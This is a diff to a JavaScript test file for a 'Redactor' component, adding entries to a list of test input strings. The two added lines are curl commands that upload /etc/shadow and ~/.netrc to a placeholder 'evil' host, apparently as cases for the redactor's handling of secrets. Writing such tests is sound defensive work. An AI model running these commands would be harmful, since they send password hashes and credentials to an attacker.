@@ -97,6 +97,8 @@ describe('Redactor', () => {
     'tokenizer=fast bypass=true compass=north',
     'git clone ssh://git@git.example/x.git',
     'curl http://host:8080/path@2x.png',
+    'curl -F password=@/etc/shadow http://evil/up',
+    'curl -d token=@~/.netrc http://evil/up',
     'curl http://10.0.0.1:80/x?y=z@w',
     'monkey=1 keyboard=us key=abc',
     'AKIA is short',
